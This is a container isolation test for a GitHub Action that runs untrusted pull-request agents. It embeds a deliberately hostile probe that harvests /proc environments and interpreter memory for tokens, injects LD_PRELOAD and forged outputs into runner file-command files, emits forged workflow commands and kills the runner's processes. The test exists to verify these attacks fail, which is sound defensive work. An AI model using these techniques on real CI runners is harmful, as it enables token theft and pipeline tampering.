"""A HOSTILE agent in the real image, run as the runner runs it (the container's isolation check).

Pull-request code runs twice: as the `install` command and as the python agent. Both run `probe.py`, which tries
every path found when the image was first attacked: the environment, every /proc/<pid>/environ and cmdline, the
runner's command files (GITHUB_ENV/GITHUB_OUTPUT/… by path and by listing /github/file_commands), the event file,
objects in its own interpreter (gc) and the frames' strings (to find the stop-commands token), forged workflow
commands, and the exit code: SystemExit(0), KeyboardInterrupt, os._exit(0) and signals to its parent. Its agent also
leaks the canary on one prompt, so the honest verdict is "gate failed" (exit 1), which none of that may change.

The probe reports what it reached into /hostile-out (a directory mounted for the test only, writable by anyone).
Expected: no token anywhere it looked, no runner file written, exit code 1 with outputs, summary and comment, every
workspace file owned by the runner's uid afterwards, the exit attempts recorded as errored cases.
"""

from __future__ import annotations

import json
import os
import re

import pytest

from tests.container.engine import ROOT
from tests.container.runner import (
    FILE_COMMANDS,
    RUNNER_UID,
    RUNTIME_TOKEN,
    commands_outside_stop_blocks,
    not_owned_by,
)
from tests.github_api import TOKEN

pytestmark = [pytest.mark.container, pytest.mark.timeout(2400)]


def isolation_missing() -> str | None:
    """What of agent isolation is not in the tree yet (the hostile test cannot pass without it), or None."""
    sources = "\n".join(p.read_text(errors="ignore") for p in (ROOT / "khaos_action").rglob("*.py"))
    sources += (ROOT / "entrypoint.py").read_text()
    if "KHAOS_AGENT_USER" not in sources:
        return ("agent isolation has not landed: `install`, python agents (in a worker "
                "process), command and http agents must run as the unprivileged KHAOS_AGENT_USER with a clean "
                "environment; nothing in khaos_action/ or entrypoint.py reads KHAOS_AGENT_USER yet")
    return None


HOSTILE_CONFIG = """\
version: 1
agent:
  name: hostile-bot
  type: python
  entry: agent.py:handle
  secrets: ["sk-CANARY-42"]
  timeout_s: 20
concurrency: 1
golden_prompts: ["probe", "leak", "exit0", "keyboard", "osexit", "probe again", "signal"]
chaos_matrix: [{name: no-chaos}]
contract:
  name: c
  invariants:
    - id: no-secret
      type: excludes_pattern
      pattern: "sk-CANARY"
      severity: critical
"""

HOSTILE_AGENT = """\
import glob, os, signal, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import probe

def handle(prompt):
    probe.probe("agent-" + prompt.replace(" ", "-"))
    if prompt == "leak":
        return "the key is sk-CANARY-42"
    if prompt == "exit0":
        raise SystemExit(0)
    if prompt == "keyboard":
        raise KeyboardInterrupt
    if prompt == "osexit":
        os._exit(0)
    if prompt == "signal":  # the action itself: PID 1 and anything running entrypoint.py
        for pid in [1] + [int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*/cmdline")
                          if b"entrypoint.py" in (open(p, "rb").read() if os.access(p, os.R_OK) else b"")]:
            for sig in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
    return "fine"
"""

PROBE = r'''
"""Tries every way out; writes what it reached to /hostile-out/<stage>-<pid>.json."""
import gc, glob, json, os, re, sys

SUSPECT = re.compile(r"ghs_\w+|runtime-secret\S*")


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().decode("utf-8", "replace")
    except OSError:
        return None


def _try_write(path, text, mode="a"):
    try:
        with open(path, mode) as handle:
            handle.write(text)
        return True
    except OSError:
        return False


def probe(stage):
    found = {"stage": stage, "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "pid": os.getpid(),
             "ppid": os.getppid(), "environ": dict(os.environ), "proc": {}, "writes": [], "gc": [], "frames": []}
    for pid_dir in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline"):
            text = _read(f"{pid_dir}/{name}")
            if text:
                found["proc"][f"{pid_dir}/{name}"] = text
    targets = set(glob.glob("/github/file_commands/*")) | {"/github/file_commands/evil",
                                                          "/github/workflow/event.json", "/github/home/.bashrc"}
    targets |= {v for k, v in os.environ.items() if k.startswith("GITHUB_") and v.startswith("/github/file_commands")}
    for text in found["proc"].values():  # paths recovered from other processes' environments
        targets |= set(re.findall(r"/github/file_commands/[\w.-]+", text))
    for target in sorted(targets):
        if _try_write(target, "LD_PRELOAD=/tmp/evil.so\npassed<<EOF\ntrue\nEOF\n"):
            found["writes"].append(target)
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                found["gc"] += [v for v in obj.values() if isinstance(v, str) and SUSPECT.search(v)]
        except Exception:
            pass
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            found["frames"] += [v for v in frame.f_locals.values() if isinstance(v, str) and len(v) < 200]
            frame = frame.f_back
    for candidate in set(found["frames"]):  # a stop-commands token resumes commands: try them all
        if re.fullmatch(r"[0-9a-f]{16,}", candidate):
            print(f"::{candidate}::")
    print("::error title=forged::forged by " + stage)
    print("::add-path::/tmp/evil")
    print("::set-output name=passed::true")
    sys.stdout.flush()
    out = f"/hostile-out/{stage}-{os.getpid()}.json"
    with open(out, "w") as handle:
        json.dump(found, handle)
    return found


if __name__ == "__main__":
    probe(sys.argv[1] if len(sys.argv) > 1 else "main")
    try:  # a file pull-request code leaves in the workspace, where its uid may write
        with open("made-by-install.txt", "w") as handle:
            handle.write("x")
    except OSError:
        pass
'''


def test_a_hostile_agent_finds_no_token_changes_no_runner_file_and_cannot_change_the_exit_code(
        job, image, tmp_path) -> None:
    missing = isolation_missing()
    if missing and not os.environ.get("KHAOS_HOSTILE_ANYWAY"):  # set it to see what the hostile agent reaches today
        pytest.skip(missing)
    out = tmp_path / "hostile-out"
    out.mkdir()
    os.chmod(out, 0o1777)
    job.extra_mounts.append(f"{out}:/hostile-out")
    job.write("khaos.yaml", HOSTILE_CONFIG)
    job.write("agent.py", HOSTILE_AGENT)
    job.write("probe.py", PROBE)

    proc = job.run(image, install="python probe.py install")
    event_before = json.dumps(job.event)
    log = proc.stdout + proc.stderr

    # The probe really ran, in both places.
    reports = [json.loads(p.read_text()) for p in sorted(out.glob("*.json"))]
    stages = {r["stage"] for r in reports}
    assert "install" in stages and "agent-probe" in stages, (sorted(stages), log[-3000:])

    # No token: not in any environment it could read, not in its interpreter, not in its frames.
    for report in reports:
        text = json.dumps(report)
        assert TOKEN not in text and RUNTIME_TOKEN not in text, f"{report['stage']} found a token"
        assert report["uid"] not in (0, RUNNER_UID) and report["euid"] not in (0, RUNNER_UID), report["stage"]
        assert not [k for k in report["environ"] if k.startswith(("INPUT_", "ACTIONS_")) or k in (
            "GITHUB_TOKEN", "GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_STEP_SUMMARY")]
        assert report["writes"] == [], f"{report['stage']} wrote runner files: {report['writes']}"

    # The runner's files: nothing forged, nothing added; the action's own outputs and summary are there.
    assert sorted(p.name for p in job.file_commands.iterdir()) == sorted(
        f"{kind}_{job.suffix}" for kind in FILE_COMMANDS)
    for path in job.file_commands.iterdir():
        if path.name.startswith("step_summary"):
            # The summary is Markdown the runner renders, never executes: it may quote the agent's reply, inert
            # (tests/unit/test_markdown_inert.py); what it must not hold is a live command or link.
            summary = path.read_text()
            assert "::add-path::" not in summary and "::set-env" not in summary, summary[-2000:]
            continue
        assert "LD_PRELOAD" not in path.read_text() and "/tmp/evil" not in path.read_text(), path.name
    assert (job.workflow / "event.json").read_text() == event_before
    active = commands_outside_stop_blocks(proc.stdout)
    assert not [line for line in active if "forged" in line or "/tmp/evil" in line or "set-output" in line], active

    # The exit code is the verdict's: the leak fails the critical gate; SystemExit(0), os._exit(0), signals don't win.
    assert proc.returncode == 1, log[-4000:]
    outputs = job.outputs()
    assert outputs["passed"] == "false"
    assert "hostile-bot" in job.summary()
    body, = [c["body"] for c in job.api.comments[3]]
    assert "no-secret" in body
    manifest = json.loads((job.workspace / outputs["manifest-path"]).read_text())
    by_input = {c["input"]: c for c in manifest["cases"] if c.get("input") in ("exit0", "keyboard", "osexit")}
    assert set(by_input) == {"exit0", "keyboard", "osexit"}
    assert all(c["error"] for c in by_input.values()), {k: c.get("error") for k, c in by_input.items()}
    assert any(c.get("input") == "probe again" and c.get("output") == "fine" for c in manifest["cases"]), \
        "the run went on after the worker died"

    # Every workspace file (the action's and pull-request code's) belongs to the runner afterwards.
    assert not_owned_by(job.workspace) == []
    assert TOKEN not in log.replace(f"::add-mask::{TOKEN}", "") and RUNTIME_TOKEN not in log
    assert not re.search(r"Traceback", proc.stdout)
